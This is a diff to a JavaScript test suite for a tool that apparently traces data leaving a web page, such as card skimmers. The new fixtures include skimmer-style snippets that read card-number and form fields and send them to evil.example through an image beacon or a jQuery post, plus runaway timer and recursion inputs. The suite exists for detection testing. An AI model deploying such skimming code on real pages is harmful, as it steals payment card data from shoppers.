@@ -65,6 +65,29 @@ describe('what leaves a page', () => {
     expect(flows(text)).toContain('card > beacon evil.example')
   })
 
+  it('is seen where a function runs again and again before there is anything to send', () => {
+    const text = `
+      var kept = null;
+      function gather() { kept += document.querySelector('#cc-number').value }
+      function step() { document.querySelector('form').addEventListener('submit', gather); if (kept != null) { new Image().src = 'https://evil.example/?' + kept } setTimeout('step()', 150) }
+      window.onload = function () { step() }`
+    expect(flows(text)).toContain('card > image evil.example')
+  })
+
+  it('is seen behind a question that jQuery answers, and behind a mark that may have been set', () => {
+    const asked = `$("input").each(function () { $(this).change(function () {
+      if (!/card/.test($(this).attr("name"))) { return }
+      var bad = 0; if (!$("#cvv").val()) { bad = 1 }
+      if (bad != 1) { $.post("https://evil.example/p", $("#cc_form").serialize()) } }) })`
+    expect(flows(asked).some((flow) => flow.endsWith('> ajax evil.example') && flow !== ' > ajax evil.example')).toBe(true)
+  })
+
+  it('is not mixed with what another call of the same function was handed', () => {
+    const text = `function same(v) { return v } function f() { same(document.querySelector("#card").value) } function g(q) { fetch("https://a.example/", { body: same(q) }) }
+      function h(q) { fetch("https://b.example/", { body: same(q) }) } function i(q) { fetch("https://c.example/", { body: same(q) }) }`
+    expect(flows(text)).toEqual([' > fetch a.example', ' > fetch b.example', ' > fetch c.example'])
+  })
+
   it('is not made up: a form that is checked, a counter that is sent', () => {
     expect(
       flows(
@@ -158,6 +181,8 @@ describe('hostile code', () => {
     ['a long sum', Array.from({ length: 20_000 }, () => '1').join('+')],
     ['eval of itself', 'var t = "eval(t)"; eval(t)'],
     ['JSON of a ring', 'var a = {}; a.a = a; JSON.stringify(a)'],
+    ['a timer that sets itself', 'function f() { setTimeout("f()", 1); setTimeout(f, 1) } f()'],
+    ['calls that branch without end', 'function f(a) { if (a.x) { f(a.y); f(a.z) } f(a.p); f(a.q) } window.onclick = f'],
     ['sorting by contradiction', '[3, 1, 2].sort(function () { return Math.random() - 0.5 })'],
   ])('%s is given up and told', (_name, text) => {
     expect(() => look(text, { stepsMax: 200_000, sweepStepsMax: 50_000 })).not.toThrow()
@@ -170,6 +195,22 @@ describe('hostile code', () => {
   it('says when it could not look at everything', () => {
     expect(look('for (;;) {}', { stepsMax: 1_000 }).ended).toBe(false)
     expect(look('a = 1').ended).toBe(true)
+  })
+
+  it('is gone through once for each function, however often they call each other', () => {
+    const names = Array.from({ length: 60 }, (_, index) => `f${index}`)
+    const text = names
+      .map(
+        (name, index) =>
+          `function ${name}(a) { ${names
+            .slice(index + 1)
+            .map((other) => `${other}(a.b)`)
+            .join(';')} }`,
+      )
+      .join('\n')
+    const { ended, steps } = look(text)
+    expect(ended).toBe(true)
+    expect(steps).toBeLessThan(100_000)
   })
 
   it('reaches nothing of ours', () => {
